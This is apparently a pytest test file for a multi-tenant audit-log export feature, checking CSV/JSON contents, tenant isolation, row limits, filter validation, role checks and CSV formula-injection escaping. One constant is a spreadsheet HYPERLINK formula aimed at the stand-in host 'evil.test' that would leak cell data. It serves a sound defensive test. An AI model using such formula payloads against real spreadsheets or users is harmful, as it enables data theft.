"""CSV and JSON exports of the owner's trail: contents, bounds, formula safety, their own event."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from custodia.api.audit import export
from custodia.audit import access
from custodia.audit.access import EventFilters
from custodia.core.actor import Actor
from custodia.core.audit import AuditAction, record
from tests.acting import act
from tests.factories import TenantMatrix
from tests.web.support import actor_for

CSV_URL = "/app/audit/export.csv"
JSON_URL = "/app/audit/export.json"
HOSTILE_AGENT = '=HYPERLINK("https://evil.test/?leak="&A1,"Click")'


def exports_of(owner: Actor) -> list[Any]:
    act(owner)
    return list(access.list_events(owner, EventFilters(action=AuditAction.AUDIT_EXPORT)))


def parse_csv(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.fixture
def trail(matrix: TenantMatrix) -> TenantMatrix:
    """A's staff read A's client twice; B's staff read B's client."""
    for business in (matrix.a, matrix.b):
        act(business.staff)
        record(AuditAction.CLIENT_READ, actor=business.staff, target=business.client)
    act(matrix.a.staff)
    record(AuditAction.CLIENT_READ, actor=matrix.a.staff, target=matrix.a.client)
    return matrix


def test_csv_export_holds_the_filtered_events_and_is_an_event(
    web_as: Any, trail: TenantMatrix
) -> None:
    a = trail.a
    query = {"client": str(a.client.pk), "action": "client.read"}
    response = web_as(a.owner).get(CSV_URL, query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    rows = parse_csv(response)
    assert len(rows) == 2 and response["X-Export-Count"] == "2"
    assert {row["actor_user_id"] for row in rows} == {str(a.staff.user.pk)}
    assert {row["client_id"] for row in rows} == {str(a.client.pk)}
    assert int(rows[0]["id"]) > int(rows[1]["id"])  # newest first
    (event,) = exports_of(a.owner)
    assert event.actor_user_id == a.owner.user.pk
    # Names of the filters, never their values.
    assert event.detail == {
        "format": "csv",
        "count": 2,
        "filters": ["client", "action"],
        "truncated": False,
    }


def test_json_export(web_as: Any, trail: TenantMatrix) -> None:
    a = trail.a
    response = web_as(a.owner).get(JSON_URL, {"person": str(a.staff.user.pk)})
    assert response.status_code == 200
    body = response.json()
    assert body["meta"] == {"count": len(body["events"]), "truncated": False, "limit": 100_000}
    assert {e["actor_user_id"] for e in body["events"]} == {str(a.staff.user.pk)}
    assert [e["action"] for e in body["events"]][:2] == ["client.read", "client.read"]
    assert all(len(e["hash"]) == 64 for e in body["events"])
    (event,) = exports_of(a.owner)
    assert event.detail["format"] == "json" and event.detail["filters"] == ["person"]


def test_another_business_never_appears(web_as: Any, trail: TenantMatrix) -> None:
    a, b = trail.a, trail.b
    for owner, other in ((a.owner, b), (b.owner, a)):
        content = web_as(owner).get(JSON_URL).content.decode()
        for marker in (str(other.client.pk), str(other.staff.user.pk), str(other.owner.tenant_id)):
            assert marker not in content


def test_formula_injection_is_neutralised(web_as: Any, trail: TenantMatrix) -> None:
    a = trail.a
    # The owner's look at the trail records the browser's user agent, as any event does.
    hostile = web_as(a.owner)
    assert hostile.get("/app/audit/", HTTP_USER_AGENT=HOSTILE_AGENT).status_code == 200
    rows = parse_csv(web_as(a.owner).get(CSV_URL, {"action": "audit.read"}))
    assert [row["user_agent"] for row in rows] == ["'" + HOSTILE_AGENT]
    # The JSON export keeps the value as it was.
    events = web_as(a.owner).get(JSON_URL, {"action": "audit.read"}).json()["events"]
    assert HOSTILE_AGENT in {e["user_agent"] for e in events}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (None, ""),
        (["a", "b"], "a b"),
        ({"k": "=v"}, '{"k": "=v"}'),
    ],
)
def test_safe_cell(value: Any, cell: str) -> None:
    assert export.safe_cell(value) == cell


def test_an_export_is_bounded_and_says_so(
    web_as: Any, trail: TenantMatrix, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "EXPORT_MAX_ROWS", 2)
    a = trail.a
    response = web_as(a.owner).get(CSV_URL)
    assert response["X-Export-Truncated"] == "true"
    assert len(parse_csv(response)) == 2
    body = web_as(a.owner).get(JSON_URL).json()
    assert body["meta"] == {"count": 2, "truncated": True, "limit": 2}
    assert [e.detail["truncated"] for e in exports_of(a.owner)] == [True, True]
    small = web_as(a.owner).get(CSV_URL, {"action": "business.create"})
    assert "X-Export-Truncated" not in small and len(parse_csv(small)) == 1


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"client": "nope"}, "client: Enter a client id"),
        ({"action": "client.steal"}, "action: Select a valid choice"),
        ({"since": "yesterday"}, "since: Enter a valid date"),
        ({"since": "2026-05-02", "until": "2026-05-01"}, "until: The end of the date range"),
    ],
)
def test_bad_filters_are_a_400_and_export_nothing(
    web_as: Any, trail: TenantMatrix, url: str, query: dict[str, str], message: str
) -> None:
    response = web_as(trail.a.owner).get(url, query)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    assert message in response.content.decode()
    assert exports_of(trail.a.owner) == []


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
@pytest.mark.parametrize("role", ["manager", "staff", "other_staff", "client"])
def test_lesser_roles_are_refused(web_as: Any, trail: TenantMatrix, url: str, role: str) -> None:
    response = web_as(actor_for(trail, role)).get(url)
    assert response.status_code == 403
    assert str(trail.a.client.pk) not in response.content.decode()
    assert exports_of(trail.a.owner) == []


def test_only_safe_methods(web_as: Any, trail: TenantMatrix) -> None:
    assert web_as(trail.a.owner).post(CSV_URL).status_code == 405
